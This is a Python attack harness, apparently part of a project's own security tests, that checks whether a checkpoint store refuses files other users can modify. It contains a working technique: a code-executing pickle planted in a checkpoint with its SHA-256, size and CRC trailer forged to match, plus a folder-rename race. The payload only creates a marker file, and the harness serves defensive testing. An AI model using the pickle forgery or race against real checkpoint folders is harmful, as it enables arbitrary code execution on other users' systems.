"""Checkpoints in a folder that another user can change.

python -m contrib.attack.hands.checkpoints WHAT FOLDER [MORE]

    load           load the newest checkpoint of FOLDER again and again, and print what became of it
    save           save a checkpoint to FOLDER
    bomb           save a checkpoint to FOLDER that creates the file MORE where it is unpickled
    flip           rename the two folders in MORE (with a colon between) to FOLDER in turns, until it is ended
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import sys
import time
import zlib
from dataclasses import asdict
from pathlib import Path

from contrib.attack.hands.strangers import Bomb

NAME = "checkpoint-00000001"
TRIES = 3000
SECONDS = 8.0


def load(folder: Path) -> None:
    from pollux.checkpoint.checkpoint_store import CheckpointStore  # noqa: PLC0415 - the attacker needs no torch
    from pollux.errors import CheckpointError  # noqa: PLC0415 - as above

    print("ready", flush=True)
    done, loaded, unsafe, refused, end = 0, 0, 0, "", time.monotonic() + SECONDS
    while done < TRIES and time.monotonic() < end:
        done += 1
        try:
            store = CheckpointStore(folder)
            found = store.newest()
            if found is not None:
                store.read(found)
                loaded += 1
        except CheckpointError as error:
            refused = str(error)
            unsafe += "belongs to uid" in refused or "may be written by" in refused
    print(f"{done} tries, {loaded} loaded, {unsafe} refused as unsafe; the last: {refused}", flush=True)


def save(folder: Path) -> None:
    from pollux.checkpoint.checkpoint_store import CheckpointStore  # noqa: PLC0415 - the attacker needs no torch
    from pollux.errors import CheckpointError  # noqa: PLC0415 - as above

    try:
        print(f"saved {CheckpointStore(folder).save({'model': {}}, meta={})}", flush=True)
    except CheckpointError as error:
        print(f"refused: {error}", flush=True)


def bomb(folder: Path, mark: str) -> None:
    """Put a pickle that runs code into a checkpoint, whose checksum is right."""
    import torch  # noqa: PLC0415 - the others may need no torch

    from pollux.checkpoint import file  # noqa: PLC0415 - as above

    save(folder)
    content = io.BytesIO()
    torch.save({"model": Bomb(mark)}, content)
    state = folder / NAME / "state.pt"
    with state.open("rb") as saved:
        trailer = asdict(file.CheckpointFile(saved, state).trailer)
    data = content.getvalue()
    raw = json.dumps(trailer | {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}).encode()
    state.write_bytes(data + raw + file._TAIL.pack(len(raw), zlib.crc32(raw), file.MAGIC))
    for path, mode in ((folder, 0o755), (folder / NAME, 0o755), (state, 0o644)):
        path.chmod(mode)


def flip(name: Path, first: str, second: str) -> None:
    print("flips", flush=True)
    while True:
        for folder in (first, second):
            os.rename(folder, name)
            time.sleep(0.0002)
            os.rename(name, folder)


def main() -> None:
    what, folder = sys.argv[1], Path(sys.argv[2])
    match what:
        case "load":
            load(folder)
        case "save":
            save(folder)
        case "bomb":
            bomb(folder, sys.argv[3])
        case "flip":
            flip(folder, *sys.argv[3].split(":"))


if __name__ == "__main__":
    main()
